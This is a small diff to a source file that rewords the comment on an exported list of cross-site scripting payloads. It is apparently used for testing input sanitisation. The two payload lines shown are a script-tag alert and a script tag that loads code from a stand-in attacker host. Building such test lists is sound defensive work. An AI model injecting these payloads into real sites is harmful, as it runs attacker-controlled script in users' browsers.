@@ -1,4 +1,4 @@
-/** A hundred ways in which people have made browsers run what was meant to be text. */
+/** A hundred ways in which people have made browsers run text as code. */
 export const PAYLOADS: readonly string[] = String.raw`
 <script>alert(1)</script>
 <SCRIPT SRC=https://evil.example/x.js></SCRIPT>
